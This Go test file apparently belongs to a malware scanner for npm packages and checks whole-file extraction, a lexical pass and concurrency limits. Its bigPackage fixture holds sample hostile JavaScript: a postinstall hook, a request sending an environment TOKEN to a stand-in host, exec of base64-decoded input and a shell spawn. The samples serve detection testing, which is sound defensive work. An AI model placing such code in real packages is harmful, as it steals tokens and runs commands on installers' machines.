package scan_test

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moatproject/moat/scan"
	"github.com/moatproject/moat/scan/rules"
	"github.com/moatproject/moat/scan/sequence"
)

// headExtractor parses only the first max bytes of a file and records the
// largest source it was handed.
type headExtractor struct {
	fakeExtractor
	max int

	mu      sync.Mutex
	largest int
	lexical []string // files handed to ExtractLexical
}

func (h *headExtractor) Extract(ctx context.Context, p string, src []byte) (*sequence.FileEvents, error) {
	h.mu.Lock()
	h.largest = max(h.largest, len(src))
	h.mu.Unlock()
	cut := len(src) > h.max
	if cut {
		src = src[:h.max]
	}
	fe, err := h.fakeExtractor.Extract(ctx, p, src)
	if fe != nil {
		fe.Truncated = fe.Truncated || cut
	}
	return fe, err
}

// lexicalExtractor is a headExtractor with a lexical pass
// (scan.LexicalExtractor): the whole file, through the same rules.
type lexicalExtractor struct{ *headExtractor }

func (l lexicalExtractor) MaxParseBytes() int     { return l.max }
func (l lexicalExtractor) MaxFileParseBytes() int { return l.max }

func (l lexicalExtractor) ExtractLexical(ctx context.Context, p string, src []byte) (*sequence.FileEvents, error) {
	l.mu.Lock()
	l.lexical = append(l.lexical, p)
	l.mu.Unlock()
	fe, err := l.fakeExtractor.Extract(ctx, p, src)
	if fe != nil {
		fe.Truncated = true
	}
	return fe, err
}

// bigPackage is an npm package over the parse budget: an entry point
// longer than the extractor's cap, library files, and a payload module whose
// markers only show past the head of a large file.
func bigPackage(t *testing.T) (string, []byte) {
	t.Helper()
	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 2000) // ~74 KB
	tail := strings.Repeat("const x = require('child_process'); x.exec(process.env.CMD);\n", 500)
	files := map[string]string{
		"package.json":   `{"name": "big", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node setup.js"}}`,
		"index.js":       "const https = require('https');\n" + lib + lib + "https.request('https://x.example/' + process.env.TOKEN);\n",
		"setup.js":       "require('./lib/a.js');\n",
		"lib/a.js":       lib,
		"lib/b.js":       lib,
		"lib/c.js":       lib + tail, // dense markers only past the first 64 KiB
		"lib/payload.js": "const cp = require('child_process'); cp.exec(Buffer.from(process.env.X, 'base64').toString());\n",
		"bin/tool":       "#!/usr/bin/env node\n" + lib + "require('child_process').spawn('sh');\n",
	}
	return "big-1.0.0.tgz", tgz(t, "package/", files)
}

// The scanner hands extractors whole files, however long; an extractor with
// a lexical pass gets the files the parse budget leaves out through it, so
// their markers still reach the sequence.
func TestWholeFilesAndLexicalPass(t *testing.T) {
	fn, data := bigPackage(t)
	const head = 64 << 10
	opts := scan.Options{ParseBudget: 200 << 10}
	plain := &headExtractor{max: head}
	r := scan.New(plain, rules.New(), opts).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
	if r.Error != "" {
		t.Fatal(r.Error)
	}
	if plain.largest <= head+1 {
		t.Fatalf("the extractor was handed at most %d bytes, not the whole of the largest file", plain.largest)
	}
	if len(plain.lexical) != 0 {
		t.Errorf("lexical pass without a LexicalExtractor: %v", plain.lexical)
	}
	withLex := &headExtractor{max: head}
	got := scan.New(lexicalExtractor{withLex}, rules.New(), opts).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
	if got.Error != "" {
		t.Fatal(got.Error)
	}
	if len(withLex.lexical) == 0 {
		t.Fatalf("no file went through the lexical pass")
	}
	// Every file is analysed: none is left with only its file.truncated marker.
	for _, ev := range got.Events {
		if ev.Token == "file.truncated" && ev.Line == 0 && strings.Contains(ev.Snippet, "not parsed") {
			t.Errorf("%s skipped unanalysed", ev.File)
		}
	}
}

// inFlightExtractor records the source bytes inside Extract at once.
type inFlightExtractor struct {
	fakeExtractor
	mu       sync.Mutex
	now, top int
}

func (e *inFlightExtractor) Extract(ctx context.Context, p string, src []byte) (*sequence.FileEvents, error) {
	e.mu.Lock()
	e.now += len(src)
	e.top = max(e.top, e.now)
	e.mu.Unlock()
	defer func() {
		e.mu.Lock()
		e.now -= len(src)
		e.mu.Unlock()
	}()
	time.Sleep(time.Millisecond)
	return e.fakeExtractor.Extract(ctx, p, src)
}

// ParseInFlight bounds the source bytes in extraction across concurrent
// scans; a file larger than the bound is still extracted, alone.
func TestParseInFlightBoundsConcurrentScans(t *testing.T) {
	const bound = 100 << 10
	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 1000) // ~37 KB
	huge := strings.Repeat(lib, 4)                                        // over the bound
	for _, withHuge := range []bool{false, true} {
		ex := &inFlightExtractor{}
		s := scan.New(ex, rules.New(), scan.Options{Parallel: 4, ParseInFlight: bound})
		var wg sync.WaitGroup
		for i := range 6 {
			files := map[string]string{"package.json": fmt.Sprintf(`{"name": "p%d", "version": "1.0.0"}`, i)}
			for j := range 5 {
				files[fmt.Sprintf("lib/%d.js", j)] = lib
			}
			if withHuge && i == 0 {
				files["lib/huge.js"] = huge
			}
			data := tgz(t, "package/", files)
			wg.Add(1)
			go func() {
				defer wg.Done()
				if r := s.Scan(context.Background(), scan.Input{Filename: "p.tgz", Data: data}); r.Error != "" {
					t.Errorf("scan %d: %s", i, r.Error)
				}
			}()
		}
		wg.Wait()
		limit := bound
		if withHuge {
			limit = len(huge) // it takes the whole bound: alone, over it
		}
		if ex.top > limit || ex.top == 0 {
			t.Errorf("huge file %v: %d source bytes in extraction at once, want at most %d", withHuge, ex.top, limit)
		}
	}
}

// OnParse sees every extraction, with its source size, and each one's done
// is called once the extraction has returned.
func TestOnParseWrapsEachExtraction(t *testing.T) {
	ex := &inFlightExtractor{}
	var mu sync.Mutex
	var sizes []int
	open := 0
	s := scan.New(ex, rules.New(), scan.Options{Parallel: 4, OnParse: func(n int) func() {
		mu.Lock()
		defer mu.Unlock()
		sizes = append(sizes, n)
		open++
		return func() {
			mu.Lock()
			open--
			mu.Unlock()
		}
	}})
	files := map[string]string{"package.json": `{"name": "p", "version": "1.0.0", "main": "a.js"}`}
	want := map[int]bool{}
	for i := range 5 {
		src := strings.Repeat("x = 1;\n", 10*(i+1))
		files[fmt.Sprintf("%c.js", 'a'+i)] = src
		want[len(src)] = true
	}
	if r := s.Scan(context.Background(), scan.Input{Filename: "p.tgz", Data: tgz(t, "package/", files)}); r.Error != "" {
		t.Fatalf("scan: %s", r.Error)
	}
	mu.Lock()
	defer mu.Unlock()
	if open != 0 {
		t.Errorf("%d extractions never reported done", open)
	}
	for _, n := range sizes {
		delete(want, n)
	}
	if len(want) != 0 {
		t.Errorf("OnParse saw sizes %v; never the sizes of the JS files %v", sizes, want)
	}
}
